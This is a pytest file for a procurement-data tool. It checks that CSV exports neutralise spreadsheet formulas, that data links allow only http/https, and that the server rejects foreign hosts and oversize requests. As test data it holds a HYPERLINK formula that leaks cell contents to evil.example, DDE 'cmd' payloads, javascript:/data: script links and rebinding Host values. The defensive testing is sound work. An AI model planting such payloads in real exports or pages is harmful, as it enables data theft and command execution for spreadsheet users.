"""What must not pass through to users (issue 15): spreadsheet formulas in CSV exports,
script links from data, requests for other host names, oversize requests.

The store is made of real releases of the sample, one supplier renamed as an attacker
would name a company (Companies House has registered such names).
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
import uvicorn
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from locality.cli import app
from locality.cli.common import print_csv_rows
from locality.domain.export import FORMULA_STARTS, neutralise_cell, neutralise_row
from locality.domain.links import web_link
from locality.ingest.pipeline import ingest
from locality.store.db import connect
from locality.web.app import SECURITY_HEADERS, SERVER_LIMITS, allowed_host, create_app
from tests.conftest import CF_RELEASES

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'


# --- the export rule ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Smith & Sons Ltd", "Smith & Sons Ltd"),
        ("-1234.50", "-1234.50"),  # a credit note: a number, kept summable
        ("+44", "+44"),
        ("-1,234.50", "-1,234.50"),
        ("", ""),
        (-5000000.0, -5000000.0),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_neutralised(cell: Any, written: Any) -> None:
    assert neutralise_cell(cell) == written


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=30), st.floats(allow_nan=False), st.integers()))
def test_no_written_cell_starts_a_formula_unless_it_is_a_number(value: Any) -> None:
    written = neutralise_cell(value)
    if not isinstance(value, str):
        assert written == value  # numbers never change
        return
    assert written in (value, "'" + value)
    if written.startswith(FORMULA_STARTS):
        float(written.replace(",", ""))  # only a plain number may start with - or +


def test_cli_csv_rows_are_neutralised(capsys: pytest.CaptureFixture[str]) -> None:
    print_csv_rows(
        ["supplier_name", "amount"],
        [{"supplier_name": FORMULA, "amount": -12.5}, {"supplier_name": "@cmd", "amount": 3}],
    )
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["supplier_name", "amount"], ["'" + FORMULA, "-12.5"], ["'@cmd", "3"]]
    assert neutralise_row(["=1", 2]) == ["'=1", 2]


# --- a store with a hostile supplier name and a script link ---------------------------------


def _hostile_releases() -> list[bytes]:
    """Real releases; the first with an award gets a formula for its supplier's name."""
    out: list[bytes] = []
    renamed = False
    for line in CF_RELEASES.read_bytes().splitlines()[:60]:
        release = orjson.loads(line)
        if not renamed and release.get("awards") and release["awards"][0].get("suppliers"):
            supplier = release["awards"][0]["suppliers"][0]
            supplier["name"] = FORMULA
            for party in release.get("parties", []):
                if party.get("id") == supplier.get("id"):
                    party["name"] = FORMULA
            renamed = True
        out.append(orjson.dumps(release))
    assert renamed
    return out


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-store")
    source = folder / "releases.jsonl"
    source.write_bytes(b"\n".join(_hostile_releases()) + b"\n")
    path = folder / "store.duckdb"
    con = connect(path)
    try:
        ingest(con, [source], jobs=1)
    finally:
        con.close()
    return path


def _formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not _number(cell)
    ]


def _number(cell: str) -> bool:
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return False
    return True


def test_cli_metrics_csv_export_neutralises_supplier_names(hostile_store: Path) -> None:
    result = CliRunner().invoke(
        app, ["--db", str(hostile_store), "metrics", "--by", "supplier", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    assert any("'" + FORMULA in row for row in csv.reader(io.StringIO(result.stdout)))
    assert _formula_cells(result.stdout) == []


@pytest.fixture(scope="module")
def client(hostile_store: Path) -> Iterator[TestClient]:
    with TestClient(create_app(hostile_store)) as c:
        yield c


def test_api_csv_export_neutralises_and_keeps_numbers(client: TestClient) -> None:
    response = client.get("/api/metrics", params={"by": "supplier", "format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert any(row["supplier_name"] == "'" + FORMULA for row in rows)
    assert _formula_cells(response.text) == []
    as_json = client.get("/api/metrics", params={"by": "supplier"}).json()
    by_id = {row["supplier_id"]: row for row in as_json}
    for row in rows:  # numbers unchanged: the CSV's values are the JSON's
        value = by_id[row["supplier_id"]]["awarded_value"]
        assert (row["awarded_value"] == "") == (value is None)
        if value is not None:
            assert float(row["awarded_value"]) == pytest.approx(value)
    # The JSON API gives the name as published: neutralising is for spreadsheets only.
    assert any(row["supplier_name"] == FORMULA for row in as_json)


# --- links from data ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "link"),
    [
        ("https://www.contractsfinder.service.gov.uk/Notice/1", "same"),
        (" http://example.org/a?b=c ", "http://example.org/a?b=c"),
        ("javascript:alert(1)", None),
        ("JavaScript:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("\x01javascript:alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("vbscript:msgbox", None),
        ("//evil.example/x", None),
        ("https:///nohost", None),
        ("http://[::1", None),
        ("ftp://example.org/file", None),
        (None, None),
        (12, None),
    ],
)
def test_only_web_addresses_are_links(url: Any, link: str | None) -> None:
    assert web_link(url) == (url if link == "same" else link)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_a_link_is_always_http_or_https(text: str) -> None:
    link = web_link(text)
    if link is not None:
        assert link.lower().startswith(("http://", "https://"))
        assert not any(ord(c) < 0x21 for c in link)


# --- headers, hosts, methods, sizes ---------------------------------------------------------


def test_csp_has_base_uri_and_form_action(client: TestClient) -> None:
    csp = client.get("/api/search", params={"q": "council"}).headers["content-security-policy"]
    assert csp == SECURITY_HEADERS["Content-Security-Policy"]
    for directive in ("base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'"):
        assert directive in csp


def test_405_says_which_methods_are_allowed(client: TestClient) -> None:
    response = client.post("/api/metrics", params={"by": "buyer"})
    assert response.status_code == 405
    assert response.headers["allow"] == "GET"
    assert "base-uri" in response.headers["content-security-policy"]


@pytest.mark.parametrize(
    ("host", "status"),
    [
        ("evil.example", 400),
        ("evil.example:8000", 400),
        ("localhost.evil.example", 400),
        ("localhost:8000", 200),
        ("127.0.0.1:8000", 200),
        ("[::1]:8000", 200),
        ("LOCALHOST", 200),
        ("testserver", 200),  # the host the (test) server listens on
    ],
)
def test_only_local_hosts_are_answered(client: TestClient, host: str, status: int) -> None:
    response = client.get("/api/search", params={"q": "council"}, headers={"Host": host})
    assert response.status_code == status
    assert "content-security-policy" in response.headers


def test_allowed_hosts_rules(monkeypatch: pytest.MonkeyPatch) -> None:
    assert allowed_host("192.168.1.20:8000", "0.0.0.0")  # listening on every address
    assert not allowed_host("rebind.evil.example", "0.0.0.0")
    assert not allowed_host("192.168.1.20", "127.0.0.1")
    monkeypatch.setenv("LOCALITY_ALLOWED_HOSTS", "dashboard.example.org")
    assert allowed_host("dashboard.example.org:443", "127.0.0.1")


def test_oversize_url_and_headers_are_414_and_431(client: TestClient) -> None:
    long_query = client.get("/api/search", params={"q": "a" * 60_000})
    assert long_query.status_code == 414
    big_cookie = client.get("/", headers={"Cookie": "a=" + "b" * 1_000_000})
    assert big_cookie.status_code == 431
    assert "nosniff" in big_cookie.headers["x-content-type-options"]


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_the_server_answers_a_1mb_cookie_and_query(hostile_store: Path) -> None:
    """Through uvicorn with `locality serve`'s limits: an answer, not a reset connection."""
    port = _free_port()
    config = uvicorn.Config(
        create_app(hostile_store),
        host="127.0.0.1",
        port=port,
        log_level="warning",
        **SERVER_LIMITS,
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        for _ in range(100):
            if server.started:
                break
            time.sleep(0.05)

        def status(path: str, headers: dict[str, str]) -> int:
            con = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            try:
                con.request("GET", path, headers=headers)
                return con.getresponse().status
            finally:
                con.close()

        assert status("/api/search?q=" + "a" * 1_000_000, {}) == 414
        assert status("/", {"Cookie": "a=" + "b" * 1_000_000}) == 431
        assert status("/", {"Host": "evil.example"}) == 400
        assert status("/api/search?q=leeds", {}) == 200
    finally:
        server.should_exit = True
        thread.join(timeout=10)


def test_json_errors_stay_json(client: TestClient) -> None:
    body = client.get("/api/search", headers={"Host": "evil.example"}).json()
    assert "host" in json.dumps(body)
